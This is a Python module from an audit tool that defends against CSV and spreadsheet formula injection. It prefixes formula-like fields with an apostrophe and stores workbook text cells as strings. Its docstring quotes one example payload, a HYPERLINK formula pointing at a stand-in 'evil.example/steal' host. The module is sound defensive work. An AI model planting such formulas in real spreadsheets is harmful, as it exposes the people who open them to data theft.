"""Text from outside (a site, an inventory, a review, an EMC export) as spreadsheet cells that are
never formulas: every workbook and CSV file the audit writes goes through here.

A spreadsheet program evaluates a cell whose text starts with '=', '+', '-' or '@' (and, after a
tab or a carriage return, whatever follows), so `=HYPERLINK("http://evil.example/steal", ...)`
taken from a page would become a live link in the workbook sent to a ministry (CSV injection,
OWASP). The audit computes no formula: in a workbook every text cell is stored as text (cell type
"s", Excel's quote prefix shown as the text itself); in a CSV file a field that would be read as a
formula is prefixed with an apostrophe, the OWASP rule, and `csv_rows` takes it off again where the
audit shows its own CSV files (the agency report)."""

from __future__ import annotations

import csv
import io
from typing import Any, Iterable, Sequence

# What makes a spreadsheet program read a text as a formula (or start one after it).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The OWASP neutralisation of a CSV field; a field that already starts with it gets one more, so that
# taking one off (csv_rows) gives back exactly what was written.
CSV_PREFIX = "'"


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_field(value: Any) -> Any:
    """A CSV field that no spreadsheet program reads as a formula; numbers stay numbers."""
    if isinstance(value, str) and (is_formula_like(value) or value.startswith(CSV_PREFIX)):
        return CSV_PREFIX + value
    return value


def to_csv(rows: Iterable[Sequence[Any]], lineterminator: str = "\r\n") -> str:
    """Rows as CSV text, every field neutralised (None is an empty field)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=lineterminator)
    writer.writerows([["" if v is None else csv_field(v) for v in row] for row in rows])
    return out.getvalue()


def csv_rows(text: str) -> list[list[str]]:
    """The fields of a CSV file the audit wrote, as they were before `csv_field` (for display)."""
    return [[field[len(CSV_PREFIX):] if field.startswith(CSV_PREFIX) else field for field in row]
            for row in csv.reader(io.StringIO(text))]


def sheet_value(value: Any) -> Any:
    """A value openpyxl accepts whatever a site put in it: the control characters XML cannot hold
    (openpyxl refuses them, losing the whole workbook) are dropped."""
    if isinstance(value, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def append_row(sheet: Any, row: Sequence[Any]) -> None:
    """Appends `row` to an openpyxl worksheet with every text cell stored as text, never a formula."""
    from openpyxl.cell.cell import Cell

    values: list[Any] = []
    for value in (sheet_value(v) for v in row):
        if isinstance(value, str):
            cell = Cell(sheet, value=value)
            # openpyxl makes any text starting with '=' a formula ("f"); "s" writes it as a string.
            cell.data_type = "s"
            if is_formula_like(value):
                cell.quotePrefix = True  # as Excel marks text typed with a leading apostrophe
            value = cell
        values.append(value)
    sheet.append(values)  # the cells made here are placed as they are (one pass: rows stay cheap)
